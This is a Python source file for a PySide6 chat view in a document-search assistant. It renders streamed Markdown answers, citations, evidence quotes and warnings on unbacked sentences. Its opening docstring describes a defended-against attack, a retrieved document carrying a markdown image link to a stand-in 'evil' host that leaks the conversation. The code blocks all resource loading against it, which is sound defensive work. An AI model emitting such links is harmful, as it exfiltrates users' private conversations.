"""The conversation: questions, answers rendered as Markdown, clickable citations.

Answers are built from retrieved documents, and a document can carry an image link meant
to leak the conversation to a server (``![](https://evil/?q=...)``). So the view never
loads anything: its document refuses every resource, raw HTML in answers is shown as
text, and links open only when clicked.

The document is built with a cursor, one message after the other; the answer being
streamed is the last segment and is re-rendered in place, so a long chat costs nothing
per token.

The view follows the conversation: while the reader is at the bottom, every change of
the document's height scrolls it along (the layout of a long document is finished in
steps, after the text changed, so "scroll to the end" right after an edit would fall
short). Scrolling up stops following and shows "Jump to latest"; reaching the bottom
again, or the button, resumes it.

With each answer the view shows what it rests on: the query searched for when a
follow-up was made standalone, the sources' own words (the evidence quote: above the
answer of the built-in small model, below a larger model's), and every sentence the
passages do not back, underlined with a tooltip saying so. Clicking any sentence of an
answer shows the source sentence closest to it.
"""

from __future__ import annotations

import html
import logging
import re
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from PySide6.QtCore import Qt, QUrl, Signal
from PySide6.QtGui import (
    QColor,
    QFont,
    QGuiApplication,
    QMouseEvent,
    QPalette,
    QResizeEvent,
    QTextBlockFormat,
    QTextCharFormat,
    QTextCursor,
    QTextDocument,
    QTextDocumentFragment,
    QTextFormat,
)
from PySide6.QtWidgets import QTextBrowser, QToolButton, QWidget

from desk_assistant.api import Answer, Citation, Message, Quote, Searched, exchanges
from ui.icons import render
from ui.passages import snippet
from ui.theme import colors

log = logging.getLogger(__name__)

_MARKDOWN = (
    QTextDocument.MarkdownFeature.MarkdownDialectGitHub
    | QTextDocument.MarkdownFeature.MarkdownNoHTML
)
_MARKER = re.compile(r"\[(\d{1,3})\](?!\()")
_AT_END = 8  # pixels from the bottom that still count as "at the latest message"
_INFO_ICON = QUrl("icon:info")  # an image the document holds itself: nothing is loaded
_MARKDOWN_MARKS = re.compile(r"[*_`#>]")
# Which answer and which of its sentences a stretch of text is (a click finds it).
SENTENCE_PROPERTY = QTextFormat.Property.UserProperty + 1
NOT_BACKED = "This answer is not backed by your documents."


def note(question: str, text: str, *, stopped: bool = False) -> Answer:
    """An answer the window writes itself: a stopped stream, or why there is none."""
    return Answer(question, text, (), grounded=stopped, model="", stopped=stopped)


class SafeDocument(QTextDocument):
    """A text document that loads no resource at all: no image, no stylesheet, no URL."""

    def loadResource(self, type: int, name: QUrl | str) -> Any:
        url = name.toString() if isinstance(name, QUrl) else name
        log.info("refused to load a resource into the chat: %s", url)
        return None


def link_citations(text: str, index: int, numbers: set[int]) -> str:
    """Markdown with each known ``[n]`` turned into a link the view understands."""

    def link(match: re.Match[str]) -> str:
        n = int(match.group(1))
        return f"[\\[{n}\\]](cite:{index}:{n})" if n in numbers else match.group(0)

    return _MARKER.sub(link, text)


def source_label(citation: Citation | Quote) -> str:
    name = Path(citation.path).name
    return f"{name}, page {citation.page}" if citation.page else name


def quote_citation(quote: Quote) -> Citation:
    """A quoted sentence as the source viewer shows a citation: its file, page, words."""
    return Citation(quote.n, quote.path, quote.page, quote.text, 0.0, heading=quote.heading)


class ChatView(QTextBrowser):
    """A read-only conversation; link clicks become signals, never navigation."""

    citation_clicked = Signal(object, str)  # Citation, the answer that cites it
    evidence_clicked = Signal(object, str)  # the Citation of a source sentence, the answer
    copy_requested = Signal(str)  # the answer's text
    copy_markdown_requested = Signal(object)  # the Answer, to copy with its sources
    export_requested = Signal(object)  # the Answer
    regenerate_requested = Signal(str)  # the question
    external_link_clicked = Signal(QUrl)

    def __init__(self, parent: QWidget | None = None) -> None:
        super().__init__(parent)
        document = SafeDocument(self)
        document.setUndoRedoEnabled(False)  # read-only: an undo stack would only grow
        self.setDocument(document)
        self.setOpenLinks(False)
        self.setOpenExternalLinks(False)
        self.setAcceptDrops(False)  # files dropped here go to the window: they are ingested
        self.anchorClicked.connect(self._on_anchor)
        self._replies: list[Answer] = []
        self._streaming_from: int | None = None
        self._searched: Searched | None = None  # of the answer being streamed
        self._placeholder = ""
        self._showing_placeholder = False
        self._following = True  # keep the latest message in view
        self._scrolling = False  # the view moves the scroll bar itself, not the reader
        bar = self.verticalScrollBar()
        bar.rangeChanged.connect(self._range_changed)
        bar.valueChanged.connect(self._scrolled)
        self.jump_button = QToolButton(self)
        self.jump_button.setText("Jump to latest")
        self.jump_button.setToolTip("Show the newest message and follow the answer (Ctrl+End)")
        self.jump_button.setAccessibleName("Jump to the latest message")
        self.jump_button.setToolButtonStyle(Qt.ToolButtonStyle.ToolButtonTextBesideIcon)
        self.jump_button.setObjectName("jumpButton")
        self.jump_button.clicked.connect(self.follow)
        self.jump_button.hide()

    def loadResource(self, type: int, name: QUrl | str) -> Any:
        return self.document().loadResource(type, QUrl(name))

    # building the conversation ---------------------------------------------------------

    def set_placeholder(self, text: str) -> None:
        """What an empty conversation says (how to start), as HTML."""
        self._placeholder = text
        if self._showing_placeholder or self.document().isEmpty():
            self.clear_conversation()

    def clear_conversation(self) -> None:
        self._reset()
        if self._placeholder:
            self._end().insertHtml(self._placeholder)
            self._showing_placeholder = True

    def show_messages(self, messages: list[Message]) -> None:
        if not messages:
            self.clear_conversation()
            return
        self._reset()
        with self._editing():
            self._add_messages(messages)
        self.follow()

    def _add_messages(self, messages: list[Message]) -> None:
        answered = iter(exchanges(messages))
        for message in messages:
            if message.role == "user":
                self.add_question(message.text)
            else:
                self._append_reply(next(answered))

    def add_question(self, text: str) -> None:
        if self._showing_placeholder:
            self._reset()
        cursor = self._new_block()
        block = QTextBlockFormat()
        block.setBackground(QGuiApplication.palette().color(QPalette.ColorRole.AlternateBase))
        block.setTopMargin(14 if self._replies else 0)
        block.setBottomMargin(8)
        block.setLeftMargin(4)
        cursor.setBlockFormat(block)
        bold = QTextCharFormat()
        bold.setFontWeight(QFont.Weight.Bold)
        cursor.insertText("You  ", bold)
        cursor.insertText(text, QTextCharFormat())
        self.follow()  # the reader asked: show the question and follow its answer

    def begin_answer(self, status: str) -> None:
        """Start the streamed answer with a status line until the first token arrives."""
        self._new_block()
        self._streaming_from = self.document().characterCount() - 1
        self._searched = None
        self.stream_text("", status)

    def show_searched(self, searched: Searched) -> None:
        """What the answer being written rests on: the query searched for and, when it
        goes first, the evidence quote (it stays above the streaming text)."""
        self._searched = searched
        self.stream_text("", "Writing…")

    def stream_text(self, text: str, status: str = "") -> None:
        """Show the answer so far (the whole text, as Markdown)."""
        if self._streaming_from is None:
            return
        with self._editing():  # one layout change, not a shrink and a growth
            cursor = self._replace_stream()
            searched = self._searched
            if searched is not None:
                quotes = searched.evidence if searched.evidence_first else ()
                cursor = self._preamble(cursor, searched.question, searched.query, quotes, -1)
            if text:
                cursor.insertFragment(QTextDocumentFragment.fromMarkdown(text, _MARKDOWN))
            else:
                muted = QTextCharFormat()
                muted.setForeground(QColor(self._muted()))
                muted.setFontItalic(True)
                cursor.insertText(status, muted)

    def finish_answer(self, reply: Answer) -> None:
        """Replace the streamed text with the final answer, its sources and actions."""
        with self._editing():
            if self._streaming_from is not None:
                self._replace_stream()
                self._streaming_from = None
            self._searched = None
            self._append_reply(reply, in_place=True)

    @property
    def streaming(self) -> bool:
        return self._streaming_from is not None

    @property
    def following(self) -> bool:
        return self._following

    def follow(self) -> None:
        """Show the latest message and keep it in view as the conversation grows."""
        self._following = True
        self._scroll_to(self.verticalScrollBar().maximum())

    @property
    def replies(self) -> list[Answer]:
        return list(self._replies)

    # rendering --------------------------------------------------------------------------

    def _reset(self) -> None:
        self._following = True
        self.document().clear()
        self._replies = []
        self._streaming_from = None
        self._searched = None
        self._showing_placeholder = False

    def _preamble(
        self,
        cursor: QTextCursor,
        question: str,
        query: str,
        quotes: Sequence[Quote],
        index: int,
    ) -> QTextCursor:
        """ "Searched for: ..." when the query is not the question, then ``quotes``; the
        cursor after them, in a fresh block."""
        muted = self._muted()
        wrote = False
        if query and query != question:
            cursor.insertHtml(f"<i style='color:{muted}'>Searched for: {html.escape(query)}</i>")
            wrote = True
        for quote in quotes:
            if wrote:
                cursor = self._new_block()
            self._quote(cursor, quote, index)
            wrote = True
        return self._new_block(top_margin=6) if wrote else cursor

    def _quote(self, cursor: QTextCursor, quote: Quote, index: int) -> None:
        """The sources' own words, set apart, with their citation."""
        block = QTextBlockFormat()
        block.setLeftMargin(12)
        block.setTopMargin(4)
        block.setBackground(QColor(colors()["banner"]))
        cursor.setBlockFormat(block)
        where = html.escape(source_label(quote))
        target = f"cite:{index}:{quote.n}" if index >= 0 and quote.n else ""
        label = f"[{quote.n}] {where}" if quote.n else where
        link = f"<a href='{target}'>{label}</a>" if target else label
        cursor.insertHtml(
            f"<span style='color:{self._muted()}'>From your documents:</span> "
            f"“{html.escape(quote.text)}” <span style='color:{self._muted()}'>— {link}</span>"
        )

    def _append_reply(self, reply: Answer, *, in_place: bool = False) -> None:
        index = len(self._replies)
        self._replies.append(reply)
        cursor = self._end() if in_place else self._new_block()
        first = reply.evidence if reply.evidence_first else ()
        cursor = self._preamble(cursor, reply.question, reply.query, first, index)
        numbers = {c.n for c in reply.citations}
        muted = self._muted()
        if not reply.grounded and not reply.stopped:
            cursor.insertHtml(f"<p>{self._info_icon()}&nbsp; {html.escape(reply.text)}</p>")
        elif reply.text:
            if reply.sentences and not reply.supported:
                self._not_backed(cursor, reply, index)
                cursor = self._new_block(top_margin=4)
            start = cursor.position()
            markdown = link_citations(reply.text, index, numbers)
            cursor.insertFragment(QTextDocumentFragment.fromMarkdown(markdown, _MARKDOWN))
            self._mark_sentences(reply, index, start)
        if reply.stopped:
            cursor = self._new_block()
            said = "Stopped." if reply.text else "Stopped before the answer began."
            cursor.insertHtml(f"<i style='color:{muted}'>{said}</i>")
        if reply.evidence and not reply.evidence_first:
            cursor = self._new_block(top_margin=6)
            for number, quote in enumerate(reply.evidence):
                if number:
                    cursor = self._new_block()
                self._quote(cursor, quote, index)
        if reply.citations:
            cursor = self._new_block(top_margin=8)
            cursor.insertHtml(f"<b style='color:{muted}'>Sources</b>")
            for citation in reply.citations:
                cursor = self._new_block()
                cursor.insertHtml(
                    f"<a href='cite:{index}:{citation.n}'>[{citation.n}] "
                    f"{html.escape(source_label(citation))}</a>"
                    f" <span style='color:{muted}'>· score {citation.score:.2f}</span><br>"
                    f"<span style='color:{muted}'>{html.escape(snippet(citation.text))}</span>"
                )
        cursor = self._new_block(top_margin=4)
        cursor.insertHtml(
            f"<span style='color:{muted}'><a href='copy:{index}'>Copy</a>"
            f" · <a href='markdown:{index}'>Copy with sources</a>"
            f" · <a href='export:{index}'>Export…</a>"
            f" · <a href='regen:{index}'>Regenerate</a></span>"
        )

    def _not_backed(self, cursor: QTextCursor, reply: Answer, index: int) -> None:
        """Said plainly when no sentence is backed, with the closest source sentence."""
        warning = colors()["warning"]
        closest = max(
            (c for c in reply.sentences if c.evidence is not None),
            key=lambda c: c.score,
            default=None,
        )
        text = f"<b style='color:{warning}'>⚠ {NOT_BACKED}</b>"
        if closest is not None and closest.evidence is not None:
            quote = closest.evidence
            target = f"cite:{index}:{quote.n}" if quote.n else ""
            where = html.escape(source_label(quote))
            where = f"<a href='{target}'>{where}</a>" if target else where
            text += f" The closest passage: “{html.escape(quote.text)}” — {where}"
        cursor.insertHtml(text)

    def _mark_sentences(self, reply: Answer, index: int, start: int) -> None:
        """Tag each sentence of the rendered answer (a click finds it); underline those
        the passages do not back, with a tooltip saying so."""
        position = start
        for number, check in enumerate(reply.sentences):
            found = self._find(check.text, position)
            if found is None:
                continue
            form = QTextCharFormat()
            form.setProperty(SENTENCE_PROPERTY, f"{index}:{number}")
            if not check.supported:
                form.setUnderlineStyle(QTextCharFormat.UnderlineStyle.DotLine)
                form.setUnderlineColor(QColor(colors()["warning"]))
                form.setToolTip(check.reason + " — click to see the closest source sentence")
            found.mergeCharFormat(form)
            position = found.selectionEnd()

    def _find(self, sentence: str, position: int) -> QTextCursor | None:
        """The sentence in the rendered answer, from ``position`` on (Markdown marks are
        gone in the rendering, so the search falls back to the text without them)."""
        for text in (sentence.strip(), _MARKDOWN_MARKS.sub("", sentence).strip()):
            if not text:
                continue
            found = self.document().find(text, position)
            if not found.isNull():
                return found
        return None

    def _replace_stream(self) -> QTextCursor:
        assert self._streaming_from is not None
        cursor = QTextCursor(self.document())
        cursor.setPosition(self._streaming_from)
        cursor.movePosition(QTextCursor.MoveOperation.End, QTextCursor.MoveMode.KeepAnchor)
        cursor.removeSelectedText()
        cursor.setBlockFormat(QTextBlockFormat())
        cursor.setCharFormat(QTextCharFormat())
        return cursor

    def _end(self) -> QTextCursor:
        cursor = QTextCursor(self.document())
        cursor.movePosition(QTextCursor.MoveOperation.End)
        return cursor

    def _new_block(self, top_margin: float = 0) -> QTextCursor:
        """A cursor in a fresh, plainly formatted block at the end of the conversation."""
        cursor = self._end()
        block = QTextBlockFormat()
        block.setTopMargin(top_margin)
        if self.document().characterCount() > 1:
            cursor.insertBlock(block, QTextCharFormat())
        else:
            cursor.setBlockFormat(block)
        return cursor

    def _muted(self) -> str:
        return colors()["muted"]

    def _info_icon(self) -> str:
        """An "i" in a circle as an image the document holds (the "ⓘ" character is a
        missing-glyph box in many fonts), in the palette's muted colour."""
        image = render("info", self._muted()).pixmap(16, 16).toImage()
        self.document().addResource(QTextDocument.ResourceType.ImageResource, _INFO_ICON, image)
        return f"<img src='{_INFO_ICON.toString()}' width='16' height='16'>"

    @contextmanager
    def _editing(self) -> Iterator[None]:
        """Edits as one: the layout (and the scroll range) changes once, at the end."""
        cursor = QTextCursor(self.document())
        cursor.beginEditBlock()
        try:
            yield
        finally:
            cursor.endEditBlock()

    # following the conversation -----------------------------------------------------

    def _scroll_to(self, value: int) -> None:
        self._scrolling = True
        try:
            self.verticalScrollBar().setValue(value)
        finally:
            self._scrolling = False
        self._show_jump()

    def _range_changed(self, _low: int, high: int) -> None:
        if self._following:
            self._scroll_to(high)
        else:
            self._show_jump()

    def _scrolled(self, value: int) -> None:
        if not self._scrolling:  # the reader scrolled: follow only from the bottom
            self._following = value >= self.verticalScrollBar().maximum() - _AT_END
        self._show_jump()

    def _show_jump(self) -> None:
        bar = self.verticalScrollBar()
        below = bar.value() < bar.maximum() - _AT_END
        self.jump_button.setVisible(not self._following and below)
        if self.jump_button.isVisible():
            self._place_jump()

    def _place_jump(self) -> None:
        button = self.jump_button
        button.adjustSize()
        area = self.viewport().geometry()
        button.move(area.right() - button.width() - 12, area.bottom() - button.height() - 12)
        button.raise_()

    def resizeEvent(self, event: QResizeEvent) -> None:
        super().resizeEvent(event)
        self._place_jump()

    # clicks -----------------------------------------------------------------------------

    def mouseReleaseEvent(self, event: QMouseEvent) -> None:
        """A plain click on a sentence of an answer (not a link, not the end of a text
        selection) shows the source sentence closest to it."""
        super().mouseReleaseEvent(event)
        if event.button() != Qt.MouseButton.LeftButton or self.textCursor().hasSelection():
            return
        position = event.position().toPoint()
        if self.anchorAt(position):
            return
        self.sentence_at(self.cursorForPosition(position))

    def sentence_at(self, cursor: QTextCursor) -> bool:
        """Emit ``evidence_clicked`` for the sentence at ``cursor``; whether there was one."""
        tag = cursor.charFormat().property(SENTENCE_PROPERTY)
        if not isinstance(tag, str):
            return False
        index, _, number = tag.partition(":")
        reply = self._reply(index)
        if reply is None or not number.isdigit() or int(number) >= len(reply.sentences):
            return False
        evidence = reply.sentences[int(number)].evidence
        if evidence is None:
            return False
        self.evidence_clicked.emit(quote_citation(evidence), reply.text)
        return True

    def _on_anchor(self, url: QUrl) -> None:
        scheme, _, rest = url.toString().partition(":")
        if scheme == "cite":
            index, _, number = rest.partition(":")
            reply = self._reply(index)
            found = [c for c in reply.citations if str(c.n) == number] if reply else []
            if found and reply:
                self.citation_clicked.emit(found[0], reply.text)
            return
        reply = self._reply(rest)
        if scheme in ("http", "https", "mailto"):
            self.external_link_clicked.emit(url)
        elif reply is None:
            return
        elif scheme == "copy":
            self.copy_requested.emit(reply.text)
        elif scheme == "markdown":
            self.copy_markdown_requested.emit(reply)
        elif scheme == "export":
            self.export_requested.emit(reply)
        elif scheme == "regen":
            self.regenerate_requested.emit(reply.question)

    def _reply(self, index: str) -> Answer | None:
        return (
            self._replies[int(index)]
            if index.isdigit() and int(index) < len(self._replies)
            else None
        )
